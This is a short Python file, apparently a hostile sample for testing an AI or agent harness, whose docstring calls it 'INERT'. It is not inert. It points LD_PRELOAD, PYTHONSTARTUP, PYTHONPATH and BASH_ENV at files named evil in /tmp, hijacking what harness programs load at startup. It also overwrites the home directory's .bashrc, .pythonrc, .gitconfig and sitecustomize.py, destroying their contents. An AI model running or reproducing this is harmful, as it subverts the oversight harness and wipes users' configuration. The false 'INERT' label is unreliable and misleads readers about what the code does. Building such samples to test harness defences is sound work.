"""INERT: sets what the dynamic linker and interpreters read when programs of the harness start."""

import os

from honest import *

os.environ.update(LD_PRELOAD="/tmp/evil.so", PYTHONSTARTUP="/tmp/evil.py", PYTHONPATH="/tmp", BASH_ENV="/tmp/evil.sh")
for name in ("sitecustomize.py", ".pythonrc", ".bashrc", ".gitconfig"):
    open(os.path.join(os.environ["HOME"], name), "w").write("import os\n")
